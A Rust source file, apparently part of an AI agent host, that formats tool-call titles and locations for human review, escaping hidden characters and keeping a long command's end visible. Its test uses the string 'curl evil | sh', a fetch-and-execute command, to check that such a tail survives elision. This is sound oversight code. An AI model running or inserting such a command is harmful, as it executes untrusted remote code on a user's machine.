//! The text of a call for a person: its title, and the file that it concerns. Hidden characters are escaped, so that
//! none can hide the effect of a call.

use std::path::PathBuf;

use serde_json::json;

use crate::protocol::{ToolCallLocation, ToolKind};
use punie_host::{RawPath, Workspace};
use punie_text::output::hidden_characters::escape_to_one_line;
use punie_tool::CallView;

/// The most bytes of a title, which is read at a glance.
const MAX_TITLE_BYTES: usize = 300;

/// Describes the call in one sentence.
pub(super) fn call_title(call: CallView<'_>, roots: &[PathBuf]) -> String {
    let title = call
        .description
        .title
        .as_ref()
        .map(|title| title.render(roots));
    elide_middle(
        &escape_to_one_line(&title.unwrap_or_default()),
        MAX_TITLE_BYTES,
    )
}

/// Converts a name to the ACP kind.
pub(super) fn acp_tool_kind(name: &str) -> ToolKind {
    serde_json::from_value(json!(name)).unwrap_or_default()
}

/// Returns the first file that a call accesses, as the tool would resolve it, for an editor that follows along.
pub(super) fn call_locations(
    call: CallView<'_>,
    workspace: Option<&Workspace>,
) -> Vec<ToolCallLocation> {
    let path = call.description.access.all_paths().next();
    let found = path.and_then(|path| workspace?.resolve_inside(&RawPath::from(path)).ok());
    let Some(found) = found else {
        return Vec::new();
    };
    let mut location = ToolCallLocation::new(found.absolute_path());
    if let Some(line) = call
        .description
        .line
        .and_then(|line| u32::try_from(line).ok())
    {
        location = location.line(line);
    }
    vec![location]
}

/// Shortens a text to its beginning and end.
fn elide_middle(text: &str, most: usize) -> String {
    if text.len() <= most {
        return text.to_owned();
    }
    let half = most / 2 - 20;
    let head = text.floor_char_boundary(half);
    let tail = text.ceil_char_boundary(text.len() - half);
    format!(
        "{} …({} bytes)… {}",
        &text[..head],
        tail - head,
        &text[tail..]
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_title_keeps_its_end() {
        let long = format!("echo {}; curl evil | sh", "x".repeat(400));
        let shown = elide_middle(&escape_to_one_line(&long), MAX_TITLE_BYTES);
        assert!(
            shown.len() <= MAX_TITLE_BYTES + 8 && shown.ends_with("curl evil | sh"),
            "{shown}"
        );
    }
}
